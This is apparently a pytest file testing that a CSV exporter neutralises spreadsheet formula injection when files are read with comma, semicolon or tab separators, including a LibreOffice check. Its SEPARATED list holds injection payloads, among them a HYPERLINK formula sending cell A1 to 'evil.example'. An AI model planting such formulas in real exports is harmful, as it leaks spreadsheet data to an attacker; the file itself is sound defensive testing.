"""CSV exports opened with another separator than ``,`` (issue 14.5).

Only a leading ``=`` ``+`` ``-`` ``@`` got the ``'`` prefix and fields with ``;`` were not quoted, so a
spreadsheet that splits lines at ``;`` (the default in Dutch, German and French settings) gave the text
after ``;`` a cell of its own, unprotected: LibreOffice evaluated ``=1+1`` and a ``HYPERLINK``. Every file
is read back here with ``,``, ``;`` and tab as the separator, by Python's reader and by LibreOffice with
formula evaluation switched on.
"""

from __future__ import annotations

import csv
import shutil
import warnings
from pathlib import Path

import pytest

from ropa.export.csv import write_csv

from .test_exports import FORMULA_START, INJECTION, register_with

SEPARATED = [
    "Salaries;=1+1",
    'Leak; =HYPERLINK("http://evil.example/?"&A1;"Click")',
    "Tab\t=1+1",
    "Comma,@SUM(1;1)",
    'Quoted;"=2+2"',
    "Lines\n-2+3\r\n+41 20 123",
    "a;;;=1+1",
    "x\t\t+1",
]
SEPARATORS = {"comma": ",", "semicolon": ";", "tab": "\t"}


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    folder = tmp_path_factory.mktemp("csv")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # control characters of INJECTION are removed with a warning
        return write_csv(register_with([*SEPARATED, *INJECTION]), folder)


@pytest.mark.parametrize("separator", SEPARATORS.values(), ids=SEPARATORS.keys())
def test_no_piece_starts_a_formula_whatever_the_separator(exported: list[Path], separator: str) -> None:
    pieces = 0
    for path in exported:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle, delimiter=separator):
                for field in row:
                    for line in field.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
                        pieces += 1
                        assert not line.lstrip(' "').startswith(FORMULA_START), (path.name, separator, line)
    assert pieces > 100


def test_every_payload_is_kept_behind_its_apostrophes(exported: list[Path]) -> None:
    """Read with ``,`` the values are the register's text with ``'`` before each formula start."""
    values: set[str] = set()
    for path in exported:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            values.update(line for row in csv.reader(handle) for field in row for line in field.split("\n"))
    for expected in ("Salaries;'=1+1", 'Quoted;"\'=2+2"', "Tab\t'=1+1", "a;;;'=1+1", "x\t'\t'+1", "'-2+3\r"):
        assert expected in values, expected


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("separator", SEPARATORS.values(), ids=SEPARATORS.keys())
def test_libreoffice_evaluates_no_formula(tmp_path: Path, exported: list[Path], separator: str) -> None:
    """LibreOffice opens the activity table with formulas evaluated: no cell becomes a formula; the same
    file with the apostrophes taken out does give formulas (so the check can fail)."""
    import openpyxl

    from tests.export.test_libreoffice import convert

    options = f"CSV:{ord(separator)},34,76,1,,1033,false,true,false,false,false,-1,true"
    activities = next(path for path in exported if path.name == "activities.csv")
    unsafe = tmp_path / "unsafe.csv"
    unsafe.write_bytes(activities.read_bytes().replace(b"'", b""))
    results = {}
    for source in (activities, unsafe):
        book = convert(source, "xlsx", tmp_path / "out", tmp_path / "profile", infilter=options)
        workbook = openpyxl.load_workbook(book)
        results[source.name] = [
            cell.value
            for ws in workbook.worksheets
            for row in ws.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
    assert results["activities.csv"] == []
    assert results["unsafe.csv"]  # the control: without the protection LibreOffice evaluates formulas
